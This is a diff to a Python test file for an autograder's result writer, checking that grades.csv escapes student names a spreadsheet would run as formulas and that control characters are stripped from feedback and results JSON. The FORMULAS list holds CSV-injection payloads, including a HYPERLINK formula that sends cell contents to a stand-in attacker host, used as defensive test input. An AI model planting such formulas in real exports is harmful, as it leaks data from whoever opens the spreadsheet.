@@ -1,5 +1,7 @@
 """Are results written atomically, in Gradescope's format, and is grades.csv rebuilt from them?"""
 
+import csv
+import io
 import json
 
 import pytest
@@ -46,10 +48,40 @@ def test_grades_csv_leaves_manual_items_blank_and_sorts_students():
     config = load_config("lec01_codesign")
     text = grades_csv(config, [sample("zed"), sample("amy")])
     lines = text.splitlines()
-    assert lines[0].split(",") == ["student", "score", "max_score", *[i.id for i in config.items]]
+    assert lines[0].split(",") == ["student", "score", "max_score", "isolation", *[i.id for i in config.items]]
     assert [line.split(",")[0] for line in lines[1:]] == ["amy", "zed"]
     row = dict(zip(lines[0].split(","), lines[1].split(",")))
     assert row["quantize"] == "12.5" and row["q15_explain_scaling"] == "" and row["max_score"] == "100"
+    assert row["isolation"] == "bubblewrap"
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("student", FORMULAS)
+def test_grades_csv_escapes_cells_a_spreadsheet_would_run_as_formulas(student):
+    config = load_config("lec01_codesign")
+    rows = list(csv.reader(io.StringIO(grades_csv(config, [sample(student), sample("amy")]))))
+    (escaped,) = [row[0] for row in rows[1:] if row[0] != "amy"]
+    assert escaped == "'" + student.replace("\r", "")     # shown as text; CR is a control character
+
+
+CONTROL = "nul:\x00 bell:\x07 esc:\x1b[2J cr:\r del:\x7f c1:\x9b end"
+
+
+def test_control_characters_never_reach_feedback_or_results_json(tmp_path):
+    result = sample()
+    noisy = tuple(ItemResult(i.id, i.kind, i.score, i.max_score, i.status, i.feedback_md + CONTROL,
+                             CONTROL if i.kind == "function" else i.output, i.title) for i in result.items)
+    result = SubmissionResult(**{**result.to_dict(), "items": noisy})
+    write_result(tmp_path, result)
+    feedback = (tmp_path / "feedback" / "amy.md").read_text(encoding="utf-8")
+    results_text = (tmp_path / "results" / "amy.json").read_text(encoding="utf-8")
+    for text in (feedback, json.loads(results_text)["tests"][0]["output"],
+                 json.dumps(json.loads(results_text)["extra_data"], ensure_ascii=False)):
+        assert "nul: bell: esc:[2J cr: del: c1: end" in text
+        assert not [c for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f]
+    assert "\\u0000" not in results_text and "\\u001b" not in results_text
 
 
 def test_atomic_write_leaves_the_old_file_when_interrupted(tmp_path, monkeypatch):
